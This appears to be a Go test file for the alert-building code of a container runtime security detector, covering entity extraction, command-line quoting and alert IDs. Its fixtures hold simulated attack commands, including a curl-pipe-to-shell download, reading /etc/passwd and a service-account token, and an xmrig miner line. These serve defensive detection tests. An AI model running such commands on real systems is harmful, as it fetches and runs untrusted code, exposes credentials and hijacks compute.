package alert

import (
	"os"
	"reflect"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/vigil-sec/vigil/internal/event"
)

var (
	testBoot = time.Date(2025, 3, 1, 8, 0, 0, 0, time.UTC)
	testTime = time.Date(2025, 3, 1, 12, 34, 56, 789, time.UTC)
)

// baseEvent is a shell in a Kubernetes container, child of a web server.
func baseEvent(kind event.Kind) *event.Event {
	return &event.Event{
		Kind:   kind,
		Time:   testTime,
		Node:   "node-1",
		Source: "ebpf",
		Process: event.Process{
			PID: 4242, PPID: 4200, StartTime: uint64(2 * time.Hour), UID: 33, User: "www-data",
			Comm: "sh", Exe: "/bin/sh", Args: []string{"sh", "-c", "id; curl http://x/a.sh | sh"},
		},
		Parent: &event.ProcessRef{PID: 4200, StartTime: uint64(time.Hour), Exe: "/usr/sbin/apache2", Args: []string{"apache2", "-DFOREGROUND"}, Comm: "apache2", UID: 33},
		Ancestry: []event.ProcessRef{
			{PID: 4200, Exe: "/usr/sbin/apache2", Comm: "apache2", UID: 33},
			{PID: 1, Exe: "/usr/bin/dumb-init", Comm: "dumb-init"},
		},
		Container: &event.Container{ID: "c0ffee", Runtime: "containerd", Name: "web", Image: "php:8-apache", Pod: "web-7d9", Namespace: "shop"},
	}
}

func TestFromMatchFillsEntities(t *testing.T) {
	wantProc := &Process{Path: "/bin/sh", CommandLine: `sh -c 'id; curl http://x/a.sh | sh'`, PID: 4242, UID: 33, User: "www-data", StartTime: testBoot.Add(2 * time.Hour)}
	wantParent := &Process{Path: "/usr/sbin/apache2", CommandLine: "apache2 -DFOREGROUND", PID: 4200, UID: 33, StartTime: testBoot.Add(time.Hour)}
	tests := []struct {
		name    string
		ev      func() *event.Event
		network *Network
		file    string
		extra   map[string][]string
		syscall *event.Syscall
	}{
		{
			name: "exec has process, parent, ancestry and container but no network or file",
			ev:   func() *event.Event { return baseEvent(event.KindExec) },
		},
		{
			name: "connect names the destination as the network peer",
			ev: func() *event.Event {
				ev := baseEvent(event.KindConnect)
				ev.Network = &event.Network{Family: "ipv4", Protocol: "tcp", SrcIP: "10.0.0.5", SrcPort: 40000, DstIP: "169.254.169.254", DstPort: 80, ResultOK: true}
				return ev
			},
			network: &Network{IP: "169.254.169.254", Port: 80},
		},
		{
			name: "accept names the remote client as the network peer",
			ev: func() *event.Event {
				ev := baseEvent(event.KindAccept)
				ev.Network = &event.Network{Family: "ipv6", Protocol: "tcp", SrcIP: "::1", SrcPort: 22, DstIP: "::1", DstPort: 51000}
				return ev
			},
			network: &Network{IP: "::1", Port: 51000},
		},
		{
			name: "dns names the queried domain and the resolver",
			ev: func() *event.Event {
				ev := baseEvent(event.KindDNS)
				ev.Network = &event.Network{Family: "ipv4", Protocol: "udp", DstIP: "10.96.0.10", DstPort: 53, DNSQuery: "pool.minexmr.com", DNSType: "A"}
				return ev
			},
			network: &Network{IP: "10.96.0.10", Port: 53, Domain: "pool.minexmr.com"},
		},
		{
			name: "listen names the local address",
			ev: func() *event.Event {
				ev := baseEvent(event.KindListen)
				ev.Network = &event.Network{Family: "ipv4", Protocol: "tcp", SrcIP: "0.0.0.0", SrcPort: 2222}
				return ev
			},
			network: &Network{IP: "0.0.0.0", Port: 2222},
		},
		{
			name: "open names the opened file",
			ev: func() *event.Event {
				ev := baseEvent(event.KindOpen)
				ev.File = &event.File{Path: "/var/run/secrets/kubernetes.io/serviceaccount/token", Sensitive: true}
				return ev
			},
			file: "/var/run/secrets/kubernetes.io/serviceaccount/token",
		},
		{
			name: "rename names the new path and keeps the old one as evidence",
			ev: func() *event.Event {
				ev := baseEvent(event.KindRename)
				ev.File = &event.File{Path: "/tmp/x", NewPath: "/usr/local/bin/kworker"}
				return ev
			},
			file:  "/usr/local/bin/kworker",
			extra: map[string][]string{"renamedFrom": {"/tmp/x"}},
		},
		{
			name: "ptrace carries the syscall",
			ev: func() *event.Event {
				ev := baseEvent(event.KindPtrace)
				ev.Syscall = &event.Syscall{Name: "ptrace", TargetPID: 77, Request: 16}
				return ev
			},
			syscall: &event.Syscall{Name: "ptrace", TargetPID: 77, Request: 16},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ev := tt.ev()
			al := fromMatch("vigil.node/WebShell", "Possible malicious web shell detected", "desc", SeverityMedium, "stable",
				[]string{"Persistence"}, []string{"T1505.003"}, []string{"Isolate the pod"}, ev, testBoot)
			if al.AlertType != "vigil.node/WebShell" || al.DisplayName != "Possible malicious web shell detected" || al.Severity != SeverityMedium || al.Maturity != "stable" {
				t.Errorf("rule fields = %q %q %q %q", al.AlertType, al.DisplayName, al.Severity, al.Maturity)
			}
			if al.Status != StatusActive || al.Count != 1 || !al.StartTime.Equal(testTime) || !al.EndTime.Equal(testTime) {
				t.Errorf("status %q count %d start %v end %v, want Active 1 %v", al.Status, al.Count, al.StartTime, al.EndTime, testTime)
			}
			if !reflect.DeepEqual(al.Tactics, []string{"Persistence"}) || !reflect.DeepEqual(al.Techniques, []string{"T1505.003"}) || !reflect.DeepEqual(al.RemediationSteps, []string{"Isolate the pod"}) {
				t.Errorf("MITRE/remediation = %v %v %v", al.Tactics, al.Techniques, al.RemediationSteps)
			}
			en := al.Entities
			if en.Node != "node-1" || en.Namespace != "shop" || en.Pod != "web-7d9" {
				t.Errorf("node/namespace/pod = %q %q %q", en.Node, en.Namespace, en.Pod)
			}
			if en.Container == nil || !reflect.DeepEqual(*en.Container, *ev.Container) || en.Container == ev.Container {
				t.Errorf("container = %+v, want a copy of %+v", en.Container, ev.Container)
			}
			if !reflect.DeepEqual(en.Process, wantProc) {
				t.Errorf("process = %+v\nwant      %+v", en.Process, wantProc)
			}
			if !reflect.DeepEqual(en.Parent, wantParent) {
				t.Errorf("parent = %+v\nwant     %+v", en.Parent, wantParent)
			}
			if !reflect.DeepEqual(en.Ancestry, ev.Ancestry) || &en.Ancestry[0] == &ev.Ancestry[0] {
				t.Errorf("ancestry = %+v, want a copy of %+v", en.Ancestry, ev.Ancestry)
			}
			if !reflect.DeepEqual(en.Network, tt.network) {
				t.Errorf("network = %+v, want %+v", en.Network, tt.network)
			}
			if en.File != tt.file || !reflect.DeepEqual(en.Extra, tt.extra) {
				t.Errorf("file = %q extra %v, want %q %v", en.File, en.Extra, tt.file, tt.extra)
			}
			if !reflect.DeepEqual(en.Syscall, tt.syscall) {
				t.Errorf("syscall = %+v, want %+v", en.Syscall, tt.syscall)
			}
			if en.Event == nil || en.Event == ev || !reflect.DeepEqual(*en.Event, *ev) {
				t.Error("the alert does not keep its own copy of the triggering event (the sensor reuses events)")
			}
			if len(al.ID) != 32 || al.ID != ID("vigil.node/WebShell", "node-1", "c0ffee", "/bin/sh", testTime.Truncate(DefaultWindow)) {
				t.Errorf("ID = %q", al.ID)
			}
		})
	}
}

func TestFromMatchEdgeCases(t *testing.T) {
	t.Run("host process keeps the host marker and has no namespace or pod", func(t *testing.T) {
		ev := baseEvent(event.KindExec)
		ev.Container = &event.Container{Host: true}
		al := fromMatch("r", "n", "d", SeverityLow, "stable", nil, nil, nil, ev, testBoot)
		if al.Entities.Container == nil || !al.Entities.Container.Host || al.Entities.Namespace != "" || al.Entities.Pod != "" {
			t.Fatalf("entities = %+v", al.Entities)
		}
		if al.ID != ID("r", "node-1", "", "/bin/sh", testTime.Truncate(DefaultWindow)) {
			t.Fatal("a host process is identified with an empty container id")
		}
	})
	t.Run("unknown start time falls back to the event time and the parent's is omitted", func(t *testing.T) {
		ev := baseEvent(event.KindExec)
		ev.Process.StartTime = 0
		ev.Parent.StartTime = 0
		al := fromMatch("r", "n", "d", SeverityLow, "stable", nil, nil, nil, ev, testBoot)
		if !al.Entities.Process.StartTime.Equal(testTime) || !al.Entities.Parent.StartTime.IsZero() {
			t.Fatalf("start times = %v, %v", al.Entities.Process.StartTime, al.Entities.Parent.StartTime)
		}
	})
	t.Run("replayed events do not use this host's boot time", func(t *testing.T) {
		ev := baseEvent(event.KindExec)
		ev.Source = "replay"
		al := fromMatch("r", "n", "d", SeverityLow, "stable", nil, nil, nil, ev, testBoot)
		if !al.Entities.Process.StartTime.Equal(testTime) {
			t.Fatalf("start = %v, want the event time", al.Entities.Process.StartTime)
		}
	})
	t.Run("a start time after the event is implausible and not used", func(t *testing.T) {
		ev := baseEvent(event.KindExec)
		ev.Process.StartTime = uint64(10 * time.Hour)
		al := fromMatch("r", "n", "d", SeverityLow, "stable", nil, nil, nil, ev, testBoot)
		if !al.Entities.Process.StartTime.Equal(testTime) {
			t.Fatalf("start = %v, want the event time", al.Entities.Process.StartTime)
		}
	})
	t.Run("detector facts become alert facts", func(t *testing.T) {
		ev := baseEvent(event.KindExec)
		ev.SetFact("drift.writtenBy", "/usr/bin/curl")
		al := fromMatch("r", "n", "d", SeverityLow, "stable", nil, nil, nil, ev, testBoot)
		if al.Entities.Facts["drift.writtenBy"] != "/usr/bin/curl" {
			t.Fatalf("facts = %v", al.Entities.Facts)
		}
	})
}

// TestFromMatchConvertsThisProcessStartTime checks the live boot-clock
// conversion against this test process's real start time from /proc.
func TestFromMatchConvertsThisProcessStartTime(t *testing.T) {
	stat, err := os.ReadFile("/proc/self/stat")
	if err != nil {
		t.Fatalf("read /proc/self/stat: %v", err)
	}
	fields := strings.Fields(string(stat[strings.LastIndexByte(string(stat), ')')+2:]))
	ticks, err := strconv.ParseUint(fields[19], 10, 64) // field 22, starttime
	if err != nil {
		t.Fatalf("parse starttime %q: %v", fields[19], err)
	}
	now := time.Now()
	ev := &event.Event{Kind: event.KindExec, Time: now, Source: "ebpf", Process: event.Process{PID: os.Getpid(), StartTime: ticks * event.TickNS, Exe: "/proc/self/exe"}}
	al := FromMatch("r", "n", "d", SeverityLow, "stable", nil, nil, nil, ev)
	got := al.Entities.Process.StartTime
	if got.After(now) || now.Sub(got) > 10*time.Minute {
		t.Fatalf("this process started at %v by the conversion, now is %v", got, now)
	}
}

func TestCommandLineQuoting(t *testing.T) {
	tests := []struct {
		name      string
		args      []string
		truncated bool
		want      string
	}{
		{"plain arguments are joined by spaces", []string{"xmrig", "-o", "stratum+tcp://pool:3333", "--threads=4"}, false, "xmrig -o stratum+tcp://pool:3333 --threads=4"},
		{"an argument with spaces and metacharacters is single-quoted", []string{"sh", "-c", "id && cat /etc/passwd"}, false, "sh -c 'id && cat /etc/passwd'"},
		{"an embedded single quote is escaped as in sh", []string{"echo", "it's"}, false, `echo 'it'\''s'`},
		{"an empty argument stays visible", []string{"ssh", ""}, false, "ssh ''"},
		{"a newline cannot forge a second line", []string{"sh", "-c", "a\nb"}, false, `sh -c $'a\nb'`},
		{"invalid UTF-8 is hex-escaped", []string{"x\xff"}, false, `$'x\xff'`},
		{"printable non-ASCII is kept", []string{"café"}, false, "café"},
		{"a truncated argv is marked", []string{"a", "b"}, true, "a b …"},
		{"no argv gives an empty command line", nil, false, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := CommandLine(tt.args, tt.truncated); got != tt.want {
				t.Fatalf("CommandLine(%q) = %s, want %s", tt.args, got, tt.want)
			}
		})
	}
}

func TestIDStability(t *testing.T) {
	w := 10 * time.Minute
	base := ID("vigil.node/X", "node-1", "c1", "/usr/bin/xmrig", testTime.Truncate(w))
	tests := []struct {
		name string
		id   string
		same bool
	}{
		{"the same inputs give the same id", ID("vigil.node/X", "node-1", "c1", "/usr/bin/xmrig", testTime.Truncate(w)), true},
		{"another time in the same window gives the same id", ID("vigil.node/X", "node-1", "c1", "/usr/bin/xmrig", testTime.Add(time.Second).Truncate(w)), true},
		{"the next window gives a new id", ID("vigil.node/X", "node-1", "c1", "/usr/bin/xmrig", testTime.Add(w).Truncate(w)), false},
		{"another container gives a new id", ID("vigil.node/X", "node-1", "c2", "/usr/bin/xmrig", testTime.Truncate(w)), false},
		{"another executable gives a new id", ID("vigil.node/X", "node-1", "c1", "/tmp/xmrig", testTime.Truncate(w)), false},
		{"another node gives a new id", ID("vigil.node/X", "node-2", "c1", "/usr/bin/xmrig", testTime.Truncate(w)), false},
		{"another rule gives a new id", ID("vigil.node/Y", "node-1", "c1", "/usr/bin/xmrig", testTime.Truncate(w)), false},
		{"fields cannot bleed into each other", ID("vigil.node/X", "node-1c", "1", "/usr/bin/xmrig", testTime.Truncate(w)), false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if (tt.id == base) != tt.same {
				t.Fatalf("id %s vs %s: same=%v, want %v", tt.id, base, tt.id == base, tt.same)
			}
			if len(tt.id) != 32 {
				t.Fatalf("id %q is not 32 hex characters", tt.id)
			}
		})
	}
}
